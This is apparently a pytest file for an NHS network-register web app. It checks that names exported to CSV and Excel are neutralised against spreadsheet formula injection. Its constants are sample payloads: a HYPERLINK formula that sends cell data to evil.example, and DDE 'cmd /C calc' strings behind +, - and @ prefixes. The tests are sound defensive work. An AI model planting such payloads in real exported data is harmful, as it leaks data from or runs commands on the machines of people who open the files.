"""Formula-like text is neutralised in every CSV and Excel export (issue 15, 5).

Names in the NHS files are stored as imported and shown as imported on the
pages; only what a spreadsheet would open is changed, by
:func:`pcnhub.core.spreadsheet.safe_cell`.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.test import Client
from markupsafe import escape

from pcnhub.access.roles import Role
from pcnhub.access.services import grant
from pcnhub.audit.services import Actor
from pcnhub.core.spreadsheet import safe_cell
from pcnhub.register.importers.errors import ImportRejected
from pcnhub.register.models import OrganisationVersion
from tests.register.samples import FIXTURES, load

# The classic payloads: a link out, DDE command execution behind arithmetic, and
# the @ and + prefixes that spreadsheets also read as the start of a formula.
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Hilltop PCN")'
PLUS = "+1+cmd|' /C calc'!A0 Surgery"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
NAMES = {"U99001": HYPERLINK, "U99002": MINUS, "U99003": AT}
UNCOVERED = ("Z10004", PLUS)
DAY = date(2021, 1, 1)


# --- the rule ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+1 Surgery", "'+1 Surgery"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tHIDDEN", "'\tHIDDEN"),
        ("\rHIDDEN", "'\rHIDDEN"),
        ("=", "'="),
        ("Hilltop PCN", "Hilltop PCN"),
        ("A=B", "A=B"),
        ("", ""),
        ("'already quoted", "'already quoted"),
        # Text that is just a number is a number to a spreadsheet, nothing more:
        # amounts arrive as text (str(Decimal)) and negative ones stay numbers.
        ("-12.50", "-12.50"),
        ("+7", "+7"),
        ("-2", "-2"),
        (-5, -5),
        (Decimal("-1.25"), Decimal("-1.25")),
        (3.5, 3.5),
        (None, None),
        (date(2021, 1, 1), date(2021, 1, 1)),
    ],
    ids=repr,
)
def test_safe_cell(value: object, expected: object) -> None:
    assert safe_cell(value) == expected
    assert type(safe_cell(value)) is type(expected)


# --- every export ----------------------------------------------------------------


def _write_csv(path: Path, rows: list[list[str]], terminator: str = "\n") -> Path:
    with path.open("w", newline="") as handle:
        csv.writer(handle, lineterminator=terminator).writerows(rows)
    return path


def _qof_rows() -> list[list[str]]:
    header, *body = csv.reader((FIXTURES / "qof_sample.csv").open())
    network, practice = header.index("PCN_ODS_CODE"), header.index("PCN_NAME")
    name = header.index("PRACTICE_NAME")
    rows = [header, *body]
    for code, practice_code in (("U99002", "Z10005"), ("U99003", "Z10006")):
        extra = list(body[0])
        extra[network], extra[network + 1] = code, "placeholder"
        extra[header.index("PRACTICE_CODE")] = practice_code
        rows.append(extra)
    for row in rows[1:]:
        if row[network] in NAMES:
            row[practice] = NAMES[row[network]]
        if row[header.index("PRACTICE_CODE")] == UNCOVERED[0]:
            row[name] = UNCOVERED[1]
    return rows


def _registrations(folder: Path) -> Path:
    header, *body = csv.reader((FIXTURES / "registrations_sample.csv").open())
    rows = [header, *body]
    for code in ("Z10005", "Z10006"):
        extra = list(body[0])
        extra[header.index("CODE")] = code
        rows.append(extra)
    return _write_csv(folder / "registrations.csv", rows, "\r\n")


@pytest.fixture
def formula_names(db: None, tmp_path: Path) -> Path:
    """A register whose network and practice names are spreadsheet formulas."""
    load("qof-mapping", _write_csv(tmp_path / "qof.csv", _qof_rows()), DAY)
    load("registrations", _registrations(tmp_path))
    return tmp_path


@pytest.fixture
def analyst(db: None) -> Client:
    user = get_user_model().objects.create_user("analyst", password="pw-analyst-1")
    grant(Actor(system="tests"), user, Role.NATIONAL, None, valid_from=date(2019, 4, 1))
    client = Client()
    client.force_login(user)
    return client


def _csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _neutralised(value: str) -> str:
    return "'" + value


def test_names_are_stored_and_shown_as_imported(
    formula_names: Path, analyst: Client
) -> None:
    held = OrganisationVersion.objects.filter(organisation_id__in=NAMES)
    assert {v.organisation_id: v.name for v in held} == NAMES
    page = analyst.get("/org/U99001/", {"as_at": DAY.isoformat()})
    assert page.status_code == 200
    assert str(escape(HYPERLINK)) in page.content.decode()
    assert str(escape("'" + HYPERLINK)) not in page.content.decode()


def test_networks_csv_page(formula_names: Path, analyst: Client) -> None:
    response = analyst.get("/networks/", {"as_at": DAY.isoformat(), "format": "csv"})
    names = {r["pcn_code"]: r["pcn_name"] for r in _csv(response.content.decode())}
    assert names == {code: _neutralised(name) for code, name in NAMES.items()}


def test_uncovered_csv_page(formula_names: Path, analyst: Client) -> None:
    response = analyst.get("/uncovered/", {"as_at": DAY.isoformat(), "format": "csv"})
    rows = _csv(response.content.decode())
    assert [(r["practice_code"], r["practice_name"]) for r in rows] == [
        (UNCOVERED[0], _neutralised(UNCOVERED[1]))
    ]
    assert rows[0]["registered_patients"] == "3100"


def test_networks_cli_csv_and_raw_json(formula_names: Path) -> None:
    out = io.StringIO()
    call_command("networks", "--as-at", DAY.isoformat(), "--format", "csv", stdout=out)
    names = {r["pcn_code"]: r["pcn_name"] for r in _csv(out.getvalue())}
    assert names == {code: _neutralised(name) for code, name in NAMES.items()}
    raw = io.StringIO()
    call_command("networks", "--as-at", DAY.isoformat(), "--format", "json", stdout=raw)
    assert {r["pcn_code"]: r["pcn_name"] for r in json.loads(raw.getvalue())} == NAMES
    # Indented as json.dumps(indent=2) writes it: no line break after each token.
    records = json.loads(raw.getvalue())
    expected = json.dumps(records, indent=2, ensure_ascii=False) + "\n"
    assert raw.getvalue() == expected


def test_uncovered_cli_csv(formula_names: Path) -> None:
    out = io.StringIO()
    call_command("uncovered", "--as-at", DAY.isoformat(), "--format", "csv", stdout=out)
    assert [r["practice_name"] for r in _csv(out.getvalue())] == [
        _neutralised(UNCOVERED[1])
    ]


def _all_networks(book: openpyxl.Workbook) -> dict[str, openpyxl.cell.Cell]:
    sheet = book["All networks"]
    cells: dict[str, openpyxl.cell.Cell] = {}
    for row in sheet.iter_rows():
        if row[0].value in NAMES:
            cells.setdefault(row[0].value, row[1])
    return cells


def _assert_workbook_is_safe(content: bytes) -> openpyxl.Workbook:
    book = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)
    return book


def test_excel_page(formula_names: Path, analyst: Client) -> None:
    response = analyst.get(
        "/org/U99001/entitlements/", {"year": "2021/22", "format": "xlsx"}
    )
    assert response.status_code == 200
    book = _assert_workbook_is_safe(response.content)
    cell = _all_networks(book)["U99001"]
    assert (cell.data_type, cell.value) == ("s", _neutralised(HYPERLINK))


def test_excel_cli(formula_names: Path) -> None:
    path = formula_names / "entitlements.xlsx"
    call_command(
        "entitlements", "--year", "2021/22", "--format", "xlsx", "--output", str(path)
    )
    book = _assert_workbook_is_safe(path.read_bytes())
    cells = _all_networks(book)
    assert {code: (c.data_type, c.value) for code, c in cells.items()} == {
        code: ("s", _neutralised(name)) for code, name in NAMES.items()
    }


def test_audit_csv(formula_names: Path, analyst: Client) -> None:
    """A rejected file's name starts the audit entry's reason."""
    bad = formula_names / "=HYPERLINK(1).csv"
    bad.write_text("a,b\n1,2\n")
    with pytest.raises(ImportRejected):
        load("qof-mapping", bad, DAY)
    response = analyst.get("/audit/", {"format": "csv"})
    rows = _csv(b"".join(response.streaming_content).decode())
    reasons = [r["reason"] for r in rows if r["action"] == "import rejected"]
    assert reasons and all(r.startswith("'=HYPERLINK(1).csv") for r in reasons)


def test_excel_holds_error_codes_and_control_characters_as_text(
    formula_names: Path,
) -> None:
    """Names held from before the importers refused control characters still
    export: openpyxl cannot write them, and '#N/A' would become an error value."""
    OrganisationVersion.objects.filter(organisation_id="U99002").update(name="#N/A")
    OrganisationVersion.objects.filter(organisation_id="U99003").update(
        name="Bell\x07 PCN"
    )
    path = formula_names / "entitlements.xlsx"
    call_command(
        "entitlements", "--year", "2021/22", "--format", "xlsx", "--output", str(path)
    )
    cells = _all_networks(_assert_workbook_is_safe(path.read_bytes()))
    assert (cells["U99002"].data_type, cells["U99002"].value) == ("s", "#N/A")
    assert cells["U99003"].value == "Bell\ufffd PCN"
